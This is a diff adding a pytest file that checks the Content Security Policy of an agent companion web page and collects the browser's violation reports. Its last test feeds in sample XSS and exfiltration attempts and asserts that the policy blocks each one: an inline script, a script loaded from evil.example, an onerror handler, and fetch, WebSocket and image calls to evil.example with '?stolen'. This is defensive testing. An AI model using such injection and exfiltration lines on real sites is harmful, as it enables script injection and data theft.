@@ -1,0 +1,174 @@
+"""The page under the companion's policy: nothing that it does is against it, and what is against it doesn't happen."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gemini_companion.guard import Guard, new_token
+from gemini_companion.policy import Policies, surface_headers
+from gemini_companion.server import Server, running
+from gemini_companion.static_files import HEADERS, Folder, StaticFiles, framed_by
+from gemini_testing import Surface
+from gemini_testing.browser import launch
+from tests.web.person import Background, Person
+
+REPORTS = "/reports"
+NUMBERS = itertools.count()
+
+
+@dataclass
+class Reporting:
+    """Has browsers tell what a policy stopped (https://www.w3.org/TR/CSP3/#directive-report-uri), and keeps it."""
+
+    app: Any
+    reports: list[dict[str, Any]]
+
+    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
+        if scope["type"] == "http" and scope["path"] == REPORTS:
+            body = (await receive())["body"]
+            self.reports.append(json.loads(body)["csp-report"])
+            await send({"type": "http.response.start", "status": 204, "headers": []})
+            await send({"type": "http.response.body"})
+            return
+
+        async def reporting(message: Any) -> None:
+            policy = b"content-security-policy"
+            named = [
+                (k, v + b"; report-uri " + REPORTS.encode() if k == policy else v)
+                for k, v in message.get("headers", [])
+            ]
+            await send({**message, "headers": named} if named else message)
+
+        await self.app(scope, receive, reporting)
+
+
+@dataclass
+class Served:
+    surface: Surface
+    reports: list[dict[str, Any]]
+
+    def stopped(self) -> list[tuple[str, str]]:
+        """What policies stopped since the last time: all that was told before a picture that isn't allowed, either."""
+        # A browser tells the same thing once only.
+        last = f"http://127.0.0.1:1/{next(NUMBERS)}"
+        self.surface.javascript("new Image().src = arguments[0]", last)
+        deadline = time.monotonic() + 20
+        while not any(each["blocked-uri"] == last for each in self.reports):
+            assert time.monotonic() < deadline, f"the browser doesn't report: {self.reports}"
+            self.surface.javascript("await fetch('/tools.json', { method: 'HEAD' })")
+        told = [(each["effective-directive"], each["blocked-uri"]) for each in self.reports]
+        self.reports.clear()
+        return [each for each in told if not each[1].startswith("http://127.0.0.1:1/")]
+
+
+@pytest.fixture(scope="module")
+def served(surface_dist: Path) -> Iterator[Served]:
+    server = Server(0)
+    folder, sites = Folder(surface_dist), Folder(surface_dist / "site")
+    folder.sites = server.sites.url
+    token = new_token()
+    app = Guard(
+        StaticFiles(folder, Policies()), hosts=server.main.hosts, token=token, headers=surface_headers()
+    )
+    of_sites = Guard(
+        StaticFiles(sites),
+        hosts=server.sites.hosts,
+        token=token,
+        headers=HEADERS | framed_by(server.main.number),
+    )
+    reports: list[dict[str, Any]] = []
+    driver = launch()
+    try:
+        with running(server, Reporting(app, reports), sites=of_sites) as url:
+            surface = Surface(driver, url)
+            surface.load()
+            yield Served(surface, reports)
+            driver.get("about:blank")
+    finally:
+        driver.quit()
+
+
+def test_the_page_starts_isolated_and_works_offline_later(served: Served) -> None:
+    assert served.surface.javascript("return crossOriginIsolated")
+    served.surface.wait_for("document.documentElement.dataset.offline === 'kept'")
+    assert served.stopped() == []
+
+
+def test_tools_do_nothing_against_the_policy(served: Served) -> None:
+    surface, call = served.surface, served.surface.call
+    assert call("terminal_execute", command="echo hi | tr h H; python -c 'print(1+1)'")["stdout"] == "Hi\n2\n"
+    page = "<title>Site</title><h1>Here</h1><button>Go</button>"
+    call("file_write", path="/project/site/index.html", content=page)
+    sites = surface.javascript("return (await (await fetch('/serving.json')).json()).sites")
+    opened = call("browser_navigate", url="/project/site/index.html")
+    assert opened["title"] == "Site" and opened["url"].startswith(sites)
+    assert "Here" in call("browser_get_text")["text"]
+    assert call("browser_click", selector="button")["success"]
+    assert call("browser_screenshot")["width"] > 0
+    call("browser_tabs", action="focus", tab="page")
+    assert call("browser_screenshot")["width"] > 0
+    assert "Workbench" in json.dumps(call("browser_snapshot"))
+    # The kernel's Python may evaluate JavaScript, and the page's script what the person agreed to.
+    assert surface.python("from pyodide.code import run_js; run_js('6 * 7')") == 42
+    running_code = Background(surface, "browser_execute_js", {"code": "return 6 * 7"})
+    Person(surface).click("#approval-once")
+    assert running_code.result() == {"result": 42}
+    assert served.stopped() == []
+
+
+def test_no_panel_does_anything_against_the_policy(served: Served) -> None:
+    surface, person = served.surface, Person(served.surface)
+    panels = "[...document.querySelectorAll('#panels-menu [aria-pressed]')].map(({ value }) => value)"
+    person.click("#panels-button")
+    names: list[str] = surface.javascript(f"return {panels}")
+    assert len(names) >= 6
+    person.click("#panels-button")
+    for name in names:
+        person.open_panel(name)
+        if surface.javascript("return document.querySelector('#panels-menu').matches(':popover-open')"):
+            # It was in front, and is closed now.
+            person.click(f"#panels-menu [value={name}]")
+        person.sees(f"#{name}")
+    assert served.stopped() == []
+
+
+def test_pictures_and_files_go_by_blob_addresses(served: Served) -> None:
+    read = (
+        "const url = URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\"/>'], "
+        "{ type: 'image/svg+xml' }));"
+        "await new Promise((onload, onerror) => Object.assign(new Image(), { onload, onerror, src: url }));"
+        "return (await (await fetch(url)).text()).length"
+    )
+    assert served.surface.javascript(read) == 41
+    assert served.stopped() == []
+
+
+SCRIPT = "document.body.append(Object.assign(document.createElement('script'), { %s }))"
+FRAGMENT = "document.body.insertAdjacentHTML('beforeend', '%s')"
+
+
+@pytest.mark.parametrize(
+    ("attempt", "directive"),
+    [
+        (SCRIPT % "textContent: 'hacked = 1'", "script-src-elem"),
+        (SCRIPT % "src: 'https://evil.example/'", "script-src-elem"),
+        (FRAGMENT % '<img src=data: onerror="hacked = 1">', "script-src-attr"),
+        (FRAGMENT % "<object data=/tools.json></object>", "object-src"),
+        ("try { await import('data:text/javascript,globalThis.hacked=1') } catch {}", "script-src-elem"),
+        ("await fetch('https://evil.example/?stolen').catch(() => 0)", "connect-src"),
+        ("try { new WebSocket('ws://evil.example/') } catch {}", "connect-src"),
+        ("new Image().src = 'https://evil.example/?stolen'", "img-src"),
+    ],
+)
+def test_what_is_against_it_does_not_happen(served: Served, attempt: str, directive: str) -> None:
+    served.surface.javascript(attempt)
+    assert directive in [each[0] for each in served.stopped()]
+    assert served.surface.javascript("return globalThis.hacked === undefined")
